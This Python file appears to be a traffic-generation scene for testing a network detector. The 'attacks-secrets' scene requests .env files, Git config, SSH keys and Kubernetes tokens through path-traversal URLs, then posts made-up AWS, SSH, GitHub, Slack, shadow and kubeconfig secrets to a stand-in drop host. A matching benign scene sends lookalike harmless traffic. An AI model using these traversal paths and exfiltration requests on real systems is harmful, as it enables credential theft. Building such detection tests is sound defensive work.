"""Secrets in clear text: asked for by path, and carried out by curl. Every secret is made up."""

import base64

from .common import begin
from .scenes import scene
from .web import curl, reply, site

TEXT = ["Content-Type: text/plain"]
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\n" * 3 + "-----END OPENSSH PRIVATE KEY-----\n"
ENV = "APP_ENV=production\nAWS_ACCESS_KEY_ID=AKIAINERTINERTINERT1\nAWS_SECRET_ACCESS_KEY=inert0inert0inert0inert0inert0inert0iner\n"


def b64url(text):
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def token(claims):
    return ".".join([b64url('{"alg":"RS256","kid":"inertinertinertinert"}'), b64url(claims), b64url("inert signature inert signature")])


SERVICE_ACCOUNT = token('{"aud":["https://kubernetes.default.svc"],"iss":"https://kubernetes.default.svc","kubernetes.io":{"namespace":"shop"},"sub":"system:serviceaccount:shop:default"}')
USER = token('{"iss":"https://login.example.org","sub":"anna"}')


def servers(lab):
    web, drop = lab.host("web", 20), lab.host("drop", 66).also("203.0.113.9")
    site(web, 80, [(r"^GET /\.env$", reply(200, ENV, "text/plain")), (r"id_rsa", reply(200, KEY, "text/plain")), (r"", reply(200, "<html>ok</html>"))])
    site(drop, 80, [(r"", reply(200, "ok", "text/plain"))])
    return web, drop


@scene("attacks-secrets")
def attacks(lab):
    """.env, .git, keys, tokens and state asked for by path; AWS, SSH, GitHub, Slack, kubeconfig, docker, shadow and pod secrets sent out"""
    web, drop = servers(lab)
    begin(lab)
    for path in ("/.env", "/.git/config", "/files?name=../../home/app/.aws/credentials", "/static/../../root/.ssh/id_rsa", "/files?name=../../root/.docker/config.json", "/files?name=../../root/.kube/config", "/read?f=/var/run/secrets/kubernetes.io/serviceaccount/token",
                 "/read?f=/proc/self/environ", "/terraform.tfstate"):
        curl(drop, f"http://{web.ip}{path}")
    out = "http://203.0.113.9/in"
    for body in (
        "[default]\naws_access_key_id = AKIAINERTINERTINERT1\naws_secret_access_key = inert0inert0inert0inert0inert0inert0iner\n",
        KEY,
        "GITHUB_TOKEN=ghp_inertinertinertinertinertinertinert1\n",
        "GITHUB=github_pat_" + "inertinert1inertinert2" + "_" + "inert" * 11 + "iner" + "\n",
        "root:$y$j9T$inertinertinertinert$inertinertinertinertinertinertinertinert:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n",
        "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQppbmVydA==\n",
        '{"auths":{"registry.example.org":{"auth":"aW5lcnQ6aW5lcnQtaW5lcnQ="}}}',
        '{"type": "service_account", "project_id": "inert", "private_key_id": "0123456789abcdef", "client_email": "x@inert.iam.gserviceaccount.com"}',
        "HOSTNAME=payments-6d4cf56db6-x2x7p\nKUBERNETES_PORT=tcp://10.96.0.1:443\nKUBERNETES_SERVICE_HOST=10.96.0.1\n",
        "SLACK=xoxb-123456789012-123456789012-inertinertinertinertinert\n",
    ):
        curl(web, out, body, headers=TEXT)
    curl(web, "http://203.0.113.9/api/v1/namespaces", headers=[f"Authorization: Bearer {SERVICE_ACCOUNT}"])
    curl(web, f"http://{drop.ip}/v1/secret/data/shop", headers=["X-Vault-Token: hvs.inertinertinertinertinertinert"])


@scene("benign-secrets")
def benign(lab):
    """public keys, placeholders and documentation with the same words, tokens of other issuers"""
    web, drop = servers(lab)
    user = lab.host("user", 30)
    begin(lab)
    for path in ("/.environment", "/docs/.env.example", "/.github/workflows/ci.yml", "/docs/git/config.html", "/docs/.ssh/known_hosts", "/docs/.ssh/id_card.png", "/docs/.aws/config", "/docs/.docker/config.md", "/docs/.kube/cache", "/docs/secrets/kubernetes.io", "/proc/overview.html", "/files/tfstate-howto.html", "/.well-known/acme"):
        curl(user, f"http://{web.ip}{path}")
    out = f"http://{web.ip}/notes"
    for body in (
        "set aws_secret_access_key in the file; keys begin with AKIA",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\n-----END PUBLIC KEY-----\n-----BEGIN PRIVATE KEY----- is how the other one begins",
        "GITHUB_TOKEN=ghp_xxx\nOTHER=github_pat_xxx\n", "root:x:0:0:root:/root:/bin/bash\nroot:$HOME", "client-key-data: REDACTED\n", '{"auths":{"registry.example.org":{}}}', '{"type": "service_account_request", "id": "private_key_id"}',
        "KUBERNETES_SERVICE_HOST is set in each pod", "SLACK=xoxb-your-token",
    ):
        curl(user, out, body, headers=TEXT)
    site(user, 8080, [(r"", reply(200, "AWS_SECRET_ACCESS_KEY=changeme\n-----BEGIN CERTIFICATE-----\nMIIB\n", "text/plain"))])
    curl(web, f"http://{user.ip}:8080/sample")
    curl(user, f"http://{web.ip}/api", headers=[f"Authorization: Bearer {USER}"])
    curl(user, f"http://{web.ip}/v1/sys/health", headers=["X-Vault-Request: true", "X-Vault-Token: none"])
